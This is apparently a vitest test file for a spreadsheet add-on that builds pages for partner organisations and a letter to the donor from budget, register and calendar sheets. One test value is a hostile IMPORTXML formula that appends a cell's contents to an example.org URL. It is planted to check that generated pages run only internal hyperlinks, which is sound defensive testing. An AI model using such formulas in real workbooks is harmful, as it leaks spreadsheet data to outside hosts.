import { beforeAll, describe, expect, it } from 'vitest';
import { makeAddonCode } from '../../../build/bundle-addon.js';
import { keyOf } from '../../../src/hosts/preview/stand-in/cells.js';
import { sheetOf, workbookOf } from '../../support/sheet-of.js';
import { type OpenScript, openScript, type Opening } from './open-script.js';

let code = '';
beforeAll(async () => {
  code = await makeAddonCode();
});

const hostile = '=IMPORTXML("https://example.org/?"&A1,"//a")';

const budget = sheetOf('Money', [
  ['Organisation', 'Budget line', 'Unit', 'Quantity', 'Unit cost', 'Amount (USD)'],
  ['Harbour Aid', 'Project manager', 'month', 12, 1500, 18_000],
  ['Hope Network', 'Community mobiliser', 'month', 12, 500, 6_000],
  [hostile, 'Exchange workshop', 'lump sum', 1, 12_000, 12_000],
]);
const register = sheetOf('Register', [
  ['Organisation', 'Kind of organisation', 'Working languages', 'How funded'],
  ['Northlight', 'donor', 'English', 'none'],
  ['Harbour Aid', 'lead', 'English', 'direct'],
  ['Hope Network', 'refugee-led organisation', 'Swahili, French', 'sub-grant'],
]);
const calendar = sheetOf('Calendar', [
  ['What', 'Kind', 'Who', 'Date set by', 'Asked on', 'Due'],
  ['Proposal', 'proposal', 'Hope Network', 'donor', '2026-11-02', '2026-11-05'],
  ['Report', 'report', 'Hope Network', 'donor', '2026-11-02', '2026-11-09'],
]);

function open(options: Partial<Opening> = {}): OpenScript {
  return openScript({ code, workbook: workbookOf(budget, register, calendar), ...options });
}

function run(script: OpenScript, name: string): OpenScript {
  script.standIn.run(name, [], 'FULL');
  expect(script.standIn.ui.alerts).toEqual([]);
  return script;
}

const tabs = ({ store }: OpenScript) => store.sheets.map(({ name }) => name).slice(3);
const valuesIn = (script: OpenScript, name: string) =>
  [...script.sheet(name).cells.values()].map(({ value }) => value);
const lastToast = ({ standIn }: OpenScript) =>
  standIn.ui.toasts[standIn.ui.toasts.length - 1]?.message;

describe('pages of organisations', () => {
  const pages = ['For Harbour Aid', 'Pour Hope Network', `For ${hostile}`];

  it('are one for each but donors, in its language, and say so', () => {
    const script = run(open(), 'insertOrganisationPages');
    expect(tabs(script)).toEqual(pages);
    expect(lastToast(script)).toBe('Pages for 3 organisations were written.');
    expect(valuesIn(script, 'Pour Hope Network')).toContain('Vos échéances');
    expect(script.store.activeSheetId).toBe(script.sheet('For Harbour Aid').id);
  });

  it('replace those of before, and are no data of a check', () => {
    const script = run(open(), 'insertOrganisationPages');
    const before = valuesIn(script, 'Pour Hope Network');
    run(script, 'insertOrganisationPages');
    expect(tabs(script)).toEqual(pages);
    expect(valuesIn(script, 'Pour Hope Network')).toEqual(before);
  });

  it('stay as they are where new ones break off', () => {
    let written = 0;
    const script = open({
      interruption: (member) => {
        if (member !== 'Range.setBackgrounds') return;
        written += 1;
        if (written > 4) throw new Error('Internal error');
      },
    });
    run(script, 'insertOrganisationPages');
    const ids = script.store.sheets.map(({ id }) => id);
    script.standIn.run('insertOrganisationPages', [], 'FULL');
    expect(script.standIn.ui.alerts.join()).toMatch(/Internal error/);
    expect(script.store.sheets.map(({ id }) => id)).toEqual(ids);
  });

  it('run nothing but links to cells', () => {
    const script = run(open(), 'insertOrganisationPages');
    const formulas = pages.flatMap((name) =>
      [...script.sheet(name).cells.values()].flatMap(({ formula }) => formula ?? []),
    );
    const link = /^=HYPERLINK\("#gid=\d+&range=[A-Z\d:]+";"[A-Z\d:, …]+"\)$/;
    expect(formulas.filter((formula) => !link.test(formula))).toEqual([]);
  });

  it('are none where nobody is named', () => {
    const script = run(
      open({ workbook: workbookOf(sheetOf('Sheet1', [])) }),
      'insertOrganisationPages',
    );
    expect(lastToast(script)).toMatch(/^The check found no organisation/);
  });
});

describe('the letter to the donor', () => {
  it('stands in a tab of its own', () => {
    const script = run(open(), 'askTheDonor');
    expect(tabs(script)).toEqual(['Letter to the donor']);
    expect(valuesIn(script, 'Letter to the donor')).toContain('To Northlight');
    expect(lastToast(script)).toBe('The new tab is "Letter to the donor".');
  });

  it('stays as people left it: a second one stands beside it', () => {
    const script = run(open(), 'askTheDonor');
    script.sheet('Letter to the donor').cells.set(keyOf(3, 1), { value: 'Our own words' });
    run(script, 'askTheDonor');
    expect(tabs(script)).toEqual(['Letter to the donor', 'Letter to the donor 2']);
    expect(valuesIn(script, 'Letter to the donor')).toContain('Our own words');
  });

  it('is no data of a check', () => {
    const script = run(open(), 'askTheDonor');
    const first = valuesIn(script, 'Letter to the donor');
    run(script, 'askTheDonor');
    expect(valuesIn(script, 'Letter to the donor 2')).toEqual(first);
  });

  it('is not written where there is nothing to ask', () => {
    const script = run(open({ workbook: workbookOf(sheetOf('Sheet1', [])) }), 'askTheDonor');
    expect(script.store.sheets).toHaveLength(1);
    expect(lastToast(script)).toMatch(/^There is no letter to write/);
  });
});

it('help opens in a dialog, in the person’s language', () => {
  const script = run(open({ userLocale: 'ar' }), 'openHelp');
  expect(script.standIn.ui.dialog?.title).toBe('ما يفعله Even Terms');
  expect(script.standIn.ui.dialog?.html).toContain('dir="rtl"');
});
